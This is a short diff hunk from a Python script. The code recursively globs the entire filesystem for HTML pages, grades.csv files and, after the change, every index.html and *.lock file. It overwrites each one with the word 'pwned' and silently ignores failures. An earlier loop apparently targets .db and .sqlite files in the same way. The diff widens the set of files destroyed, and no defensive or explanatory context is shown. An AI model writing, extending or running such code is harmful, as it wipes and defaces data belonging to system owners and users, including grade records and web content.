@@ -88,7 +88,7 @@ for _p in glob.glob("/**/*.db", recursive=True) + glob.glob("/**/*.sqlite", recu
     except Exception:
         pass
 for _p in glob.glob("/**/*.html", recursive=True) + glob.glob("/**/grades.csv", recursive=True) \\
-        + glob.glob("/**/journal.jsonl", recursive=True):
+        + glob.glob("/**/index.html", recursive=True) + glob.glob("/**/*.lock", recursive=True):
     try:
         open(_p, "w").write("pwned")
     except Exception:
